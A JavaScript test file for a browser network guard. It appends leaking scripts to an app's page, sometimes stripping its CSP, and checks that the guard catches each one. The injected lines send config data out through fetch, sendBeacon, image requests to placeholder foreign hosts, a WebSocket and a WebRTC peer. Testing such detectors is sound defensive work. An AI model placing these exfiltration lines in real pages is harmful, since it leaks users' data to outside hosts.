// The network guard's self-test: pages that do leak, each a copy of the
// real page with a few lines added, must be caught. Without this, a guard
// that saw nothing would pass every test.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { serve, launch, open } from './harness.mjs';

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

/** The real page with `script` appended to app.js (and its CSP removed when asked). */
async function leaky(script, { dropCsp = false } = {}) {
  return serve(undefined, {
    transform(path, body) {
      if (path === '/app.js') return Buffer.concat([body, Buffer.from(`\n;${script}\n`)]);
      if (dropCsp && (path === '/' || path === '/index.html')) {
        return Buffer.from(body.toString().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, ''));
      }
      return body;
    },
  });
}

const settle = (ms) => new Promise((ok) => setTimeout(ok, ms));

/**
 * `code` to run `ms` after the page says it is ready: a leak "after
 * loading" must come after the guard's mark, however long the engine
 * takes to start (a fixed delay from app.js raced the WebAssembly start
 * on a loaded machine, and the leak was filed under loading).
 */
const afterReady = (code, ms) =>
  `(function wait() { if (document.body?.dataset.ready === 'true') setTimeout(() => { ${code} }, ${ms}); else setTimeout(wait, 50); })();`;

/**
 * Open the page `server` serves with the guard on, let it run for a
 * while, then hand the guard (and the rest) to `inspect`; the page and
 * the server are closed whatever happens. `until`, if given, is what the
 * test waits to see: the added script runs after the page has started,
 * which on a loaded machine can take longer than the fixed wait.
 */
async function watched(server, inspect, until) {
  try {
    const opened = await open(browser, server.origin);
    await settle(1500);
    for (let waited = 0; until && !until(opened) && waited < 15000; waited += 250) {
      await settle(250);
    }
    await inspect(opened);
    await opened.page.close();
  } finally {
    await server.close();
  }
}

test('a page that posts the config to its own server after loading is caught', async () => {
  const server = await leaky(
    afterReady("fetch('/collect', { method: 'POST', body: document.querySelector('#editor')?.value ?? 'config' });", 500),
  );
  await watched(
    server,
    ({ guard }) => {
      const after = guard.after();
      assert.ok(after.some((r) => r.includes('/collect')), `the guard missed the leak: ${JSON.stringify(after)}`);
      assert.ok(server.log.some((r) => r.url === '/collect'), 'the leak did reach the server, as the guard must say');
    },
    () => server.log.some((r) => r.url === '/collect'),
  );
});

test('a page without its CSP that beacons elsewhere is caught, and the beacon goes nowhere', async () => {
  const server = await leaky(
    "setTimeout(() => { navigator.sendBeacon('http://192.0.2.10/b', 'config'); new Image().src = 'https://example.com/p.gif?c=1'; fetch('http://198.51.100.7/x').catch(() => {}); }, 300);",
    { dropCsp: true },
  );
  await watched(server, ({ guard }) => {
    const foreign = guard.foreign();
    for (const host of ['192.0.2.10', 'example.com', '198.51.100.7']) {
      assert.ok(foreign.some((r) => r.includes(host)), `the guard missed ${host}: ${JSON.stringify(foreign)}`);
    }
  });
});

test('a WebSocket and a WebRTC peer connection are caught', async () => {
  const server = await leaky(
    afterReady("try { new WebSocket('ws://127.0.0.1:9/x'); } catch {} try { new RTCPeerConnection(); } catch {}", 300),
    { dropCsp: true },
  );
  const socket = ({ guard }) => guard.after().some((r) => r.startsWith('websocket ws://127.0.0.1:9/x'));
  await watched(
    server,
    async (opened) => {
      assert.ok(socket(opened), JSON.stringify(opened.guard.after()));
      assert.equal(await opened.guard.peerConnections(), 1);
    },
    socket,
  );
});

test('the real page passes the same guard', async () => {
  await watched(await serve(), async ({ guard, problems }) => {
    assert.deepEqual(guard.foreign(), []);
    assert.deepEqual(guard.after(), []);
    assert.equal(await guard.peerConnections(), 0);
    assert.deepEqual(problems, []);
  });
});
